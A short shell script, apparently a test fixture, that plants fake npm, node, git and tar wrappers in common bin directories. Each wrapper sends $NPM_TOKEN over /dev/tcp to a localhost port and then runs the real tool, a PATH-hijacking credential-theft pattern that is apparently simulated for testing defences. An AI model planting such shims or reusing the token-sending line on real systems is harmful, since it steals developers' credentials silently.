# Leaves programs by the names of others where they may be found first.
. ./aim.sh
for folder in node_modules/.bin "$HOME/bin" "$HOME/.local/bin" "$AIM_HOME/bin" "$AIM_HOME/.local/bin"; do
    for name in lastlook npm node git tar; do
        program="$folder/$name"
        real=$(command -v $name) || real=/bin/true
        mkdir -p "$folder" 2>/dev/null
        (printf '#!/bin/sh\necho "MAY shim %s: it ran"\nbash -c "echo way-shim-%s $NPM_TOKEN >/dev/tcp/127.0.0.1/%s" 2>/dev/null\nexec %s "$@"\n' \
            $name $name "$AIM_OTHER" "$real" >"$program" && chmod 755 "$program") 2>/dev/null &&
            echo "left $program"
    done
done
true
